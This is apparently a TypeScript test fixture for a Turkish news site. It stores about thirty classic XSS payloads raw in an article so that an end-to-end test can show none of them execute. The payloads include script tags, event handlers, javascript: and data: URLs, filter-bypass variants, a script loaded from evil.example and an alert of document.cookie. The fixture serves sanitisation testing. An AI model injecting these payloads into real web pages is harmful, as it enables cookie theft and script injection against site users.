import { eq } from 'drizzle-orm';
import type { Db } from '../db/client';
import { news, news_tags } from '../db/schema/news';

// A deliberately hostile article: a test fixture, never demo content (it was published in the demo news list
// and in related items: docs/reliability.md#second-attack-pass, finding 14). The browser journey
// e2e/news-hostile-html.desktop.spec.ts stores it raw in its own server's copy of the database and proves
// that nothing in it runs.

// Classic XSS payloads, stored as they are (the fixture bypasses sanitise-on-write): none may run.
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x onerror=alert(document.cookie)>',
  '<svg onload="alert(1)"><circle r="10"></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">javascript: bağlantısı</a>',
  '<a href="JaVaScRiPt:alert(1)">büyük-küçük harfli javascript: bağlantısı</a>',
  '<a href="&#106;avascript:alert(1)">kodlanmış javascript: bağlantısı</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data: bağlantısı</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<p style="background:url(javascript:alert(1)); width: expression(alert(1))">style expression</p>',
  '<style>body { background: url("javascript:alert(1)") }</style>',
  '<div onclick="alert(1)" onmouseover="alert(1)">olay özniteliği</div>',
  '<body onload="alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>gönder</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>ayrıntı</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<img src="x" onerror="alert(1)"',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="x" onerror="alert(1)"></audio>',
  '<marquee onstart="alert(1)">kayan yazı</marquee>',
  '<p>Kapanmamış etiket <b>kalın <i>eğik</p>',
];

export const HOSTILE_ARTICLE = {
  title: 'Güvenlik testi: içerik temizleme',
  short_url: 'guvenlik-testi',
  content: [
    '<p>Bu yazı, haber içeriklerinin güvenle gösterildiğini sınamak için hazırlanmış bir test yazısıdır. Aşağıdaki bölüm, zararlı kod denemeleri içerir; sunucu bunları temizler ve sayfada hiçbir komut çalışmaz.</p>',
    '<h2>Temizlenen içerik</h2>',
    ...XSS_PAYLOADS,
    '<p>Test yazısının sonu.</p>',
  ].join('\n'),
} as const;

/** Stores the hostile article raw (no sanitising on the way in), under the demo tag "Teknoloji" when it exists. */
export async function insertHostileArticle(db: Db): Promise<void> {
  const [tag] = await db.select({ id: news_tags.id }).from(news_tags).where(eq(news_tags.name, 'Teknoloji'));
  await db.insert(news).values({ ...HOSTILE_ARTICLE, tag_id: tag?.id ?? null, published_at: new Date('2025-12-01T09:00:00+03:00') });
}
